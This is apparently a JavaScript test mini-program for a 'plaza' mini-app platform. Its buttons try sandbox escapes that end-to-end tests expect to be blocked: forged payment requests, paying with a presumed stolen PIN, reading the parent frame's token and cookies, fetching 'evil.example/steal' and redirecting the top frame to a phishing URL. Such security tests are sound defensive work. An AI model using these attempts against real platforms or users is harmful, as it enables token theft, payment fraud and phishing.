// The attack test mini-program (tests/e2e/test_miniapp_attacks.py): each button, on a real
// tap, tries something a mini-program must not be able to do, or makes a plain plaza.js call
// to compare with, and writes the outcome into [data-result=<name>] as JSON
// ({"ok": true, "value": ...} or {"ok": false, "code": ...}).
import plaza from "/__plaza__/plaza.js";

const launch = new URLSearchParams(location.hash.slice(1));
const host = launch.get("plaza-host");
const session = launch.get("plaza-session");
const appId = location.hostname.split(".")[0];
const PIN = "135790"; // suppose the mini-program learnt the person's PIN somehow
let rawId = 100000;

/** A request plaza.js would not send (it passes only prepayId), posted by hand. */
function raw(method, params) {
  const id = rawId++;
  return new Promise((resolve, reject) => {
    window.addEventListener("message", function answer(event) {
      if (event.source !== parent || event.data?.id !== id) return;
      window.removeEventListener("message", answer);
      if (event.data.ok) resolve(event.data.result);
      else reject(Object.assign(new Error(event.data.error.message), { code: event.data.error.code }));
    });
    parent.postMessage({ plaza: 1, id, method, params, session }, host);
  });
}

const prepay = () => document.getElementById("prepay").value;

/** Each way of reaching a URL that a page has, and what the browser let through. */
// Violation events are queued after the refusal itself; a loaded machine may take seconds.
const VIOLATIONS_WAIT_MS = 5000;

async function reach(url, body) {
  const violations = [];
  let fetchAndImageReported;
  const reported = new Promise((resolve) => (fetchAndImageReported = resolve));
  const listen = (event) => {
    violations.push(event.blockedURI);
    if (violations.length >= 2) fetchAndImageReported();
  };
  document.addEventListener("securitypolicyviolation", listen);
  const outcome = {};
  try {
    const answer = await fetch(url, { method: "POST", headers: { "Content-Type": "application/json" }, body });
    outcome.fetch = { ok: true, status: answer.status };
  } catch (error) {
    outcome.fetch = { ok: false, error: error.name };
  }
  outcome.beacon = navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
  outcome.image = await new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("refused");
    image.src = url;
  });
  await Promise.race([reported, new Promise((resolve) => setTimeout(resolve, VIOLATIONS_WAIT_MS))]);
  document.removeEventListener("securitypolicyviolation", listen);
  return { ...outcome, violations };
}

function attempt(action) {
  try {
    return { ok: true, value: String(action()) };
  } catch (error) {
    return { ok: false, error: error.name };
  }
}

async function attemptFetch(url) {
  try {
    return { ok: true, value: await (await fetch(url)).text() };
  } catch (error) {
    return { ok: false, error: error.name };
  }
}

const calls = {
  login: () => plaza.login(),
  setTitle: () => plaza.setTitle("Lab"),
  ask: () => plaza.showModal({ title: "Really?", content: "Only the person answers this." }),
  pay: () => plaza.requestPayment({ prepayId: prepay() }),
  payForged: () =>
    raw("requestPayment", {
      prepayId: prepay(),
      amount: 1,
      total: 1,
      merchant: "Evil",
      merchant_name: "Evil",
      description: "Free coffee",
      currency: "USD",
    }),
  payDirect: () => reach(`${host}/v1/miniapps/${appId}/orders/${prepay()}/pay`, JSON.stringify({ pin: PIN })),
  probe: async () => ({
    origin: self.origin,
    parentStorage: attempt(() => parent.localStorage.getItem("plaza.token")),
    parentCookie: attempt(() => parent.document.cookie),
    parentLocation: attempt(() => parent.location.href),
    ownStorage: attempt(() => localStorage.length),
    ownSessionStorage: attempt(() => sessionStorage.length),
    ownCookie: attempt(() => document.cookie),
    hostApi: await attemptFetch(`${host}/v1/me`),
    undeclared: await attemptFetch("https://evil.example/steal"),
    declared: await attemptFetch("https://api.coffee.example/ping"),
    popup: attempt(() => window.open(`${host}/`) === null),
    topNavigation: attempt(() => {
      top.location.href = "https://evil.example/phish";
      return "navigated";
    }),
  }),
};

function show(name, outcome) {
  let out = document.querySelector(`[data-result="${name}"]`);
  if (!out) {
    out = document.createElement("div");
    out.dataset.result = name;
    document.getElementById("results").append(out);
  }
  out.textContent = JSON.stringify(outcome);
}

document.addEventListener("click", (event) => {
  const button = event.target instanceof Element ? event.target.closest("button[data-call]") : null;
  if (!button) return;
  const name = button.dataset.call;
  document.querySelector(`[data-result="${name}"]`)?.remove();
  calls[name]().then(
    (result) => show(name, { ok: true, value: result ?? null }),
    (error) => show(name, { ok: false, code: error.code ?? String(error) }),
  );
});

plaza.ready();
